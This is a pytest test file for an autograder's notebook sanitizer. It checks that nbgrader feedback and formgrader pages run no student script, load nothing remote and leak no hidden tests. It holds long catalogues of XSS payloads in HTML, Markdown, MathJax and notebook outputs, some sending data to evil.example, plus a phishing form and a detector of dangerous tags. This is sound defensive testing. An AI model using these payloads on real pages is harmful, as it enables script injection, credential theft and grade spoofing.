"""Feedback and formgrader pages run no student's code, and show no hidden test."""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from bs4 import BeautifulSoup, Tag
from fake_class import (
    ASSIGNMENT,
    TOPIC,
    FakeClass,
    Submission,
    grade_outcomes,
    right_work,
)
from matplotlib.figure import Figure
from nbconvert.exporters import HTMLExporter
from nbformat import from_dict
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from nbgrader.converters import GenerateFeedback
from nbgrader.coursedir import CourseDirectory
from traitlets.config import Config

from autograder.course.nbgrader_settings import NBGRADER_TEMPLATES, configure_feedback
from autograder.feedback.markdown import render_markdown
from autograder.html import mathml
from autograder.html.sanitize import MAX_TAGS, clean_html
from autograder.html.sanitize_cells import sanitize_cell, sanitize_markdown
from autograder.messages import SHOWN_AS_WRITTEN
from autograder.notebook.markers import without_region
from course_lib.plots.described import describe
from grader_tests.strength.score import within

# the samples hold what nbconvert cannot show, and languages that do not exist
pytestmark = [
    pytest.mark.filterwarnings("ignore:Your element with mimetype"),
    pytest.mark.filterwarnings("ignore:No lexer found for language"),
]

ENDLESS = 60.0
"""CPU seconds."""
ALERT = "alert(document.domain)"
PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n, or so it seems").decode()

HOSTILE_HTML = {
    "script": f"<script>{ALERT}</script>",
    "script in other case": f"<ScRiPt src=//evil.example>{ALERT}</sCrIpT >",
    "script cut in two": f"<scr<script>ipt>{ALERT}</scr</script>ipt>",
    "event": f"<img src=x onerror={ALERT}>",
    "event after slash": f"<img/src=x/onerror={ALERT}>",
    "event on an allowed tag": f"<details open ontoggle={ALERT}><summary>x</summary></details>",
    "javascript link": f'<a href="javascript:{ALERT}">x</a>',
    "javascript link in entities": f'<a href="&#106;ava&Tab;script&colon;{ALERT}">x</a>',
    "data link": f'<a href="data:text/html,<script>{ALERT}</script>">x</a>',
    "svg onload": f"<svg onload={ALERT}><circle r=9 /></svg>",
    "svg use": '<svg><use href="data:image/svg+xml;base64,AAAA#x"/></svg>',
    "svg animate": f'<svg><a><animate attributeName=href values="javascript:{ALERT}"/></a></svg>',
    "iframe": f'<iframe srcdoc="<script>parent.{ALERT}</script>"></iframe>',
    "object": '<object data="https://evil.example/x"></object><embed src="//evil.example">',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{ALERT}">',
    "base": '<base href="https://evil.example/">',
    "link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "style element": "<style>@import 'https://evil.example/x.css'; body {display: none}</style>",
    "style with url": '<p style="background:url(https://evil.example/p)">x</p>',
    "style with an escape": r'<p style="background:\75rl(https://evil.example/p)">x</p>',
    "style that covers the page": '<p style="position:fixed;inset:0;margin:-99em">x</p>',
    "remote image": '<img src="https://evil.example/pixel.png" srcset="//evil.example/p 2x">',
    "form": '<form action="https://evil.example"><input name=password><button>ok</button></form>',
    "id and name": '<a id="toc" name="submission_id" class="full-credit mark-graded">x</a>',
    "mutation in math": f'<math><mtext><table><mglyph><style><img src=x onerror="{ALERT}">',
    "mutation in noscript": f'<noscript><p title="</noscript><img src=x onerror={ALERT}>">',
    "mutation in title": f"<title><img src=x onerror={ALERT}></title>",
    "mutation in select": f"<select><template><img src=x onerror={ALERT}></template></select>",
    "comment": f"<!--><img src=x onerror={ALERT}>-->",
    "conditional comment": f"<!--[if IE]><script>{ALERT}</script><![endif]-->",
    "processing instruction": f"<?xml-stylesheet href='javascript:{ALERT}'?>",
    "cdata": f"<![CDATA[<script>{ALERT}</script>]]>",
    "unclosed attribute": f'<p title="<img src=x onerror={ALERT}>',
    "closing the page": f"</div></div></body></html><script>{ALERT}</script>",
    "null bytes": f"<scr\x00ipt>{ALERT}</scr\x00ipt>",
    "lone surrogate": f"<p>\ud800<script>{ALERT}</script></p>",
}

HOSTILE_MARKDOWN = {
    "link": f"[click](javascript:{ALERT})",
    "link in entities": f"[click](&#x6a;avascript:{ALERT})",
    "link with a tab": f"[click](java\tscript:{ALERT})",
    "reference": f"[click][1]\n\n[1]: javascript:{ALERT}",
    "autolink": f"<javascript:{ALERT}>",
    "files prefix": f"[click](files/javascript:{ALERT})",
    "files prefix with a slash": f"[click](/files/javascript:{ALERT})",
    "file beside the notebook": "[click](evil.html)",
    "vbscript image": "![x](vbscript:x)",
    "remote image": "![x](https://evil.example/pixel.png)",
    "image title": f'![x](data:image/png;base64,AAAA "\\" onerror={ALERT}")',
    "mermaid": f"```mermaid\n<img src=x onerror={ALERT}>\n```",
    "fence": f"```html\n<script>{ALERT}</script>\n```",
    "fence info": f'```"><script>{ALERT}</script>\nx\n```',
    "heading": f"# <img src=x onerror={ALERT}>",
    "table": f"| a |\n|---|\n| <img src=x onerror={ALERT}> |",
    "math": f"$<img src=x onerror={ALERT}>$",
    "math block": f"$$\n<script>{ALERT}</script>\n$$",
    "math text": rf"$\text{{<img src=x onerror={ALERT}>}}$",
    "math link": rf"$\href{{javascript:{ALERT}}}{{x}}$",
    "math style": r"$\style{background:url(https://evil.example)}{x}$",
    "math class": r"$\class{full-credit}{x}$ $\cssId{toc}{x}$",
    "math in an attribute": "<div title='\n\n$x$\n\n'>$y$",
    "math in an image": rf'![$\text{{" onerror={ALERT} "}}$](data:image/png;base64,AAAA)',
    "math environment": rf"\begin{{equation}}<script>{ALERT}</script>\end{{equation}}",
    "closing the fence": f"~~~~\n<script>{ALERT}</script>\n~~~~\n\n~~~\n<script>{ALERT}</script>",
    "too long": "a " * 20_000 + f"<script>{ALERT}</script>",
    "deep": "<div>" * 3_000 + f"<script>{ALERT}</script>",
    "missing attachment": "![x](attachment:nowhere.png)",
    "quotes without end": ">" * 5_000 + f"<script>{ALERT}</script>",
} | {f"html: {name}": html for name, html in HOSTILE_HTML.items()}

HOSTILE_OUTPUTS = {
    "javascript": {"application/javascript": ALERT},
    "javascript under another name": {"text/javascript": ALERT},
    "widget": {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{ALERT}"}},
    "mermaid": {"text/vnd.mermaid": f"<img src=x onerror={ALERT}>"},
    "markdown": {"text/markdown": f"[x](javascript:{ALERT}) <img src=x onerror={ALERT}>"},
    "svg": {"image/svg+xml": f"<svg onload={ALERT}><script>{ALERT}</script></svg>"},
    "png": {"image/png": f'" onerror={ALERT} x="'},
    "jpeg": {"image/jpeg": f'"><script>{ALERT}</script>'},
    "pdf": {"application/pdf": f"<script>{ALERT}</script>"},
    "latex": {"text/latex": f"$</script><script>{ALERT}</script>$"},
    "text": {"text/plain": f"<script>{ALERT}</script>\x1b[31m<img src=x onerror={ALERT}>\x1b[0m"},
    "unknown type": {f"x/y<script>{ALERT}</script>": "x"},
    "surrogate": {"text/plain": "\udfff"},
}

HOSTILE_METADATA = {
    "image/png": {"width": f"1 onload={ALERT}", "height": f"1 onerror={ALERT}", "alt": '"'},
    "filenames": {"image/png": "https://evil.example/pixel.png"},
    "text/html": {"isolated": True},
}


def dangers(page: str) -> list[str]:
    """What in a page runs, loads something, or reaches the page around it."""
    page.encode("utf-8")
    return [
        danger for tag in BeautifulSoup(page, "html.parser").find_all(True) for danger in _in(tag)
    ]


def _in(tag: Tag) -> Iterator[str]:
    forbidden = "script iframe frame object embed form input button base link meta svg style use"
    if tag.name in {*forbidden.split(), "animate", "template", "noscript", "portal", "title"}:
        yield str(tag)[:200]
    for name, value in tag.attrs.items():
        text = " ".join(value) if isinstance(value, list) else str(value)
        if name.startswith("on") or name in {"srcset", "srcdoc", "id", "name", "action", "ping"}:
            yield f"{name}={text}"
        if name == "src" and not re.match(r"data:image/[a-z+]+;base64,[\w+/=]*$", text):
            yield f"{name}={text}"
        if name in {"href", "xlink:href"} and not re.match(r"https?:|mailto:|#[\w.-]*$", text):
            yield f"{name}={text}"
        if name == "style" and re.search(r"[(\\]|position|:\s*-", text):
            yield f"{name}={text}"
        if name == "class" and {"full-credit", "mark-graded"} & set(text.split()):
            yield f"{name}={text}"


def hostile_cells() -> list[Any]:
    """Every hostile sample as a cell that a student could leave behind."""
    cells: list[Any] = [new_markdown_cell(text) for text in HOSTILE_MARKDOWN.values()]
    for html in HOSTILE_HTML.values():
        cells.append(new_code_cell("1", outputs=[new_output("display_data", {"text/html": html})]))
        cells.append(new_raw_cell(html, metadata={"raw_mimetype": "text/html"}))
    for data in HOSTILE_OUTPUTS.values():
        output = new_output("display_data", data, metadata=HOSTILE_METADATA)
        cells.append(new_code_cell(f"# <script>{ALERT}</script>", outputs=[output]))
    good = {"image/png": PNG, "text/html": f"<b>x</b><script>{ALERT}</script>"}
    for kind in good:
        output = new_output("execute_result", {kind: good[kind]}, metadata=HOSTILE_METADATA)
        cells.append(new_code_cell("1", outputs=[output]))
    text = f"<script>{ALERT}</script>\ud83d"
    outputs = [
        new_output("stream", name="stdout", text=text),
        new_output("error", ename=text, evalue=text, traceback=[text]),
    ]
    cells.append(new_code_cell("1", outputs=outputs, metadata={"magics_language": f'"><{text}'}))
    bundle = {"image/png": f'" onerror={ALERT} x="', "text/html": f"<script>{ALERT}</script>"}
    cells.append(new_markdown_cell("![x](attachment:a.png)", attachments={"a.png": bundle}))
    mime = f'image/png" onerror={ALERT} "'
    cells.append(new_markdown_cell("![x](attachment:a)", attachments={"a": {mime: "AAAA"}}))
    for number, cell in enumerate(cells):
        cell.id = f"evil-{number}"
    return cells


@pytest.mark.parametrize("html", HOSTILE_HTML.values(), ids=HOSTILE_HTML.keys())
def test_cleaned_html_runs_and_loads_nothing(html: str) -> None:
    cleaned = clean_html(html)
    assert dangers(cleaned) == []
    assert clean_html(cleaned) == cleaned


@pytest.mark.parametrize("source", HOSTILE_MARKDOWN.values(), ids=HOSTILE_MARKDOWN.keys())
def test_rendered_markdown_runs_and_loads_nothing(source: str) -> None:
    assert dangers(render_markdown(source)) == []


def exporter(template: str, config: Config | None = None) -> HTMLExporter:
    """The exporter as nbgrader's own page for `template` builds it."""
    settings = Config()
    settings.HTMLExporter.template_name = template
    settings.HTMLExporter.extra_template_basedirs = [str(NBGRADER_TEMPLATES)]
    settings.merge(config or Config())
    return HTMLExporter(config=settings)


def formgrader_page(cells: list[Any], config: Config | None = None) -> BeautifulSoup:
    names = ("assignment_id", "notebook_id", "submission_id", "base_url", "student", "last_name")
    resources: dict[str, Any] = dict.fromkeys((*names, "first_name", "notebook_path"), "x")
    notebook = new_notebook(cells=cells)
    page, _ = exporter("formgrade", config).from_notebook_node(
        notebook, resources | {"index": 0, "total": 1}
    )
    page.encode("utf-8")
    return BeautifulSoup(page, "html.parser")


def in_cells(page: BeautifulSoup) -> str:
    """The part of a page that the notebook's cells fill."""
    container = page.select_one("#notebook-container")
    assert container is not None
    for own in container.select(".cell, #notebook, #notebook-container"):
        del own["id"]
    for anchor in container.select("a[name]"):
        del anchor["name"]
    for control in container.select(".scoring-buttons, input.score, input.extra-credit"):
        control.decompose()
    for heading in container.select("h1, h2, h3"):
        del heading["id"]
    return container.decode_contents()


def test_the_samples_are_dangerous_where_nothing_is_sanitized() -> None:
    cells = [cell for cell in hostile_cells() if "attachment:" not in cell.source]
    whole = [cell for cell in cells if r"\ud" not in json.dumps(cell) and "<!--" not in str(cell)]
    page = formgrader_page(whole)
    assert len(dangers(str(page))) > 50 + len(dangers(str(formgrader_page([]))))


def test_what_grading_writes_is_harmless_in_a_formgrader_without_our_settings() -> None:
    cells = hostile_cells()
    for cell in cells:
        sanitize_cell(cell)
    page = formgrader_page(cells)
    assert dangers(in_cells(page)) == []
    empty = formgrader_page([])
    assert len(page.find_all("script")) == len(empty.find_all("script"))


@pytest.mark.processes
def test_formgrader_with_our_settings_is_safe_even_from_what_was_not_sanitized() -> None:
    config = Config()
    configure_feedback(config)
    page = formgrader_page(hostile_cells(), config)
    assert dangers(in_cells(page)) == []
    scripts = page.find_all("script")
    assert [one.get("src") for one in scripts] == [
        one.get("src") for one in formgrader_page([], config).find_all("script")
    ]
    assert all(str(one.get("src", "x/")).startswith("x/") for one in scripts), "only its own server"
    assert "window.MathJax" in str(page)


def feedback_page(folder: Path, submission: Submission) -> str:
    """The page that `nbgrader generate_feedback` writes for one student."""
    fake = FakeClass(folder)
    fake.write({"ann": submission})
    config = Config()
    configure_feedback(config)
    config.CourseDirectory.root = str(folder)
    config.CourseDirectory.course_id = fake.course_id
    config.CourseDirectory.db_url = fake.db_url
    config.CourseDirectory.assignment_id = ASSIGNMENT
    GenerateFeedback(coursedir=CourseDirectory(config=config), config=config).start()
    page = folder / "feedback" / "ann" / ASSIGNMENT / f"{ASSIGNMENT}.html"
    return page.read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def hostile_feedback(tmp_path_factory: pytest.TempPathFactory) -> str:
    verdict = grade_outcomes(TOPIC.exercises[1], "no correction")
    work = right_work(
        verdicts={"adam_step": verdict},
        extra_cells=tuple(hostile_cells()),
        incidents=(f"It stopped: <script>{ALERT}</script>",),
        reflection=f"Because $\\beta^t$ shrinks. <script>{ALERT}</script>",
    )
    return feedback_page(tmp_path_factory.mktemp("course"), work)


@pytest.mark.processes
def test_nbgraders_feedback_runs_no_script_and_loads_nothing(hostile_feedback: str) -> None:
    page = BeautifulSoup(hostile_feedback, "html.parser")
    assert page.find_all("script") == []
    assert dangers(in_cells(page)) == []
    policy = page.select_one('head meta[http-equiv="Content-Security-Policy"]')
    assert policy is not None
    rules = dict(rule.strip().split(" ", 1) for rule in str(policy["content"]).split(";"))
    assert rules["default-src"] == "'none'"
    assert not {"script-src", "connect-src", "frame-src"} & set(rules)
    loaded = [str(t.get("src") or t.get("href")) for t in page.select("[src], link[href]")]
    assert all(one.startswith("data:image/") for one in loaded)


@pytest.mark.processes
def test_feedback_shows_no_hidden_test(hostile_feedback: str) -> None:
    assert "check" in hostile_feedback
    for hidden in ("grader_tests", "BEGIN HIDDEN", "END HIDDEN", ">grade<"):
        assert hidden not in hostile_feedback


@pytest.mark.processes
def test_feedback_still_says_everything_that_it_should(hostile_feedback: str) -> None:
    page = BeautifulSoup(hostile_feedback, "html.parser")
    verdicts = page.select(".course-verdict")
    assert len(verdicts) == 3
    assert TOPIC.exercises[1].mistakes[1].hint in verdicts[1].text
    mark = verdicts[1].select_one('td[aria-label="failed"] span')
    assert mark is not None
    assert "background-color:#c04a00" in str(mark["style"])
    assert "Score: 8.0 / 11.0" in page.text
    assert f"It stopped: <script>{ALERT}</script>" in page.text
    assert not [pre for pre in page.select(".output_text pre") if pre.text.strip() == "8"]
    assert len(page.select("math")) > 1


def test_a_hidden_region_that_is_never_closed_is_taken_out_to_the_end() -> None:
    source = "a\n### BEGIN HIDDEN TESTS\nb\n### BEGIN HIDDEN TESTS\nc"
    assert without_region(source, "BEGIN HIDDEN TESTS", "END HIDDEN TESTS") == "a"


@pytest.mark.processes
def test_an_answer_may_speak_of_hidden_tests(tmp_path: Path) -> None:
    page = feedback_page(tmp_path, right_work(reflection="### BEGIN HIDDEN TESTS\n\nmine"))
    assert "mine" in page


HONEST = [
    "Adam has **two** moments, *v* and `s`:\n\n1. mean\n2. mean of squares\n",
    "See [the paper](https://arxiv.org/abs/1412.6980) and <https://example.org/a?b=1&c=2>.",
    "| a | b |\n|---|--:|\n| 1 | 2 |\n\n> quoted & 3 < 4 > 2",
    "$\\hat v = v / (1 - \\beta_1^t)$ and $$\\begin{aligned} a &= b \\\\ c &< d \\end{aligned}$$",
    "H<sub>2</sub>O<br>next &amp; last &lt;tag&gt; 偏差修正 🙂",
    "```python\nif a < b and c > d:\n    x = '<b>'\n```",
    "![plot](attachment:plot.png)",
]


@pytest.mark.parametrize("source", HONEST)
def test_honest_markdown_is_kept_as_it_is(source: str) -> None:
    assert sanitize_markdown(source, {"plot.png"}) == source


def test_what_is_not_kept_is_shown_as_it_was_written() -> None:
    source = "My answer.\n\n~~~\n<script>x</script>\n~~~~\n<img src=x onerror=y>"
    shown = sanitize_markdown(source)
    assert SHOWN_AS_WRITTEN in shown
    code = BeautifulSoup(render_markdown(shown), "html.parser").select_one("pre")
    assert code is not None
    assert code.text.strip() == source


def test_tables_figures_and_drawings_survive() -> None:
    figure = Figure()
    figure.subplots().plot([1, 2])
    image = describe(figure, alt="A line that rises.")._repr_html_()
    frame = '<div><table border="1" class="dataframe"><tr><th scope="col">a</th></tr></table></div>'
    drawing = "<svg xmlns='http://www.w3.org/2000/svg'><circle r='9'/></svg>"
    cell = new_code_cell("1")
    cell.outputs = [
        new_output("display_data", {"text/html": image}),
        new_output("display_data", {"text/html": frame}),
        new_output("display_data", {"image/svg+xml": drawing, "text/plain": "a drawing"}),
        new_output("display_data", {"image/png": PNG}),
    ]
    sanitize_cell(cell)
    page = BeautifulSoup("".join(o.data.get("text/html", "") for o in cell.outputs), "html.parser")
    first, second = page.find_all("img")
    assert first["alt"] == "A line that rises."
    original = BeautifulSoup(image, "html.parser").img
    assert original is not None
    assert (first["src"], first["width"]) == (original["src"], original["width"])
    assert "max-width:100%" in str(first["style"])
    assert base64.b64decode(str(second["src"]).split(",")[1]).decode() == drawing
    assert page.select_one("table.dataframe th[scope=col]") is not None
    assert cell.outputs[3].data["image/png"] == PNG


def test_a_verdict_survives_with_its_colours() -> None:
    html = grade_outcomes(TOPIC.exercises[1], "no correction").html()
    before, after = (BeautifulSoup(one, "html.parser") for one in (html, clean_html(html)))
    assert after.text == before.text
    assert [tag.name for tag in after.find_all(True)] == [tag.name for tag in before.find_all(True)]

    def look(page: BeautifulSoup) -> list[str]:
        # The sanitizer writes .4em as 0.4em.
        return [re.sub(r"(?<!\d)0\.", ".", str(tag["style"])) for tag in page.select("[style]")]

    assert look(after) == look(before)


def test_formulas_become_mathml_and_faulty_ones_stay_readable() -> None:
    html = render_markdown(r"Let $\beta_1 < 1$ and $\frac{$.")
    page = BeautifulSoup(html, "html.parser")
    assert [math["display"] for math in page.find_all("math")] == ["inline"]
    assert page.code is not None
    assert page.code.text == r"\frac{"
    aligned = mathml.to_mathml(r"\begin{aligned} a &= b \\ c &= d \end{aligned}", display=True)
    assert aligned.count("<mtr>") == 2
    assert "&amp;" not in aligned


def test_an_element_that_does_not_draw_makes_a_formula_code(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    root = ElementTree.Element("math")
    ElementTree.SubElement(root, "annotation-xml", encoding="text/html")
    monkeypatch.setattr(mathml, "convert_to_element", lambda *_, **__: root)
    assert mathml.to_mathml("x < y") == "<code>x &lt; y</code>"


@pytest.mark.parametrize(
    "text",
    ["<ul><li>" * 100_000, "<div>" * 150_000, "<b " * 200_000, "&" * 500_000, "<" * 500_000],
    ids=["lists", "blocks", "open tags", "entities", "angles"],
)
def test_no_output_is_cleaned_without_end(text: str) -> None:
    """How long it takes, `benchmarks.parent_time` measures."""
    assert within(ENDLESS, clean_html, text) is not None


@pytest.mark.parametrize(
    "unit", ["\\begin{a}", "[a](", "![", "*a ", "<a ", "$a", "`a", "> ", "- ", "(((", "&#", "$$"]
)
def test_no_markdown_is_checked_without_end(unit: str) -> None:
    longest = unit * (20_000 // len(unit))
    assert within(ENDLESS, sanitize_markdown, longest) is not None
    assert within(ENDLESS, sanitize_markdown, unit * 200_000) is not None
    assert within(ENDLESS, render_markdown, longest) is not None


def test_a_table_of_many_cells_is_still_a_table() -> None:
    rows = "<tr>" + "<td>1</td>" * 20 + "</tr>"
    html = "<table>" + rows * 60 + "</table>"
    assert html.count("<") <= MAX_TAGS
    assert clean_html(html).count("<td>") == 1_200


def test_sanitizing_twice_changes_nothing_more() -> None:
    cells = hostile_cells()
    for cell in cells:
        sanitize_cell(cell)
    again = [from_dict(cell) for cell in cells]
    for cell in again:
        sanitize_cell(cell)
    assert again == cells
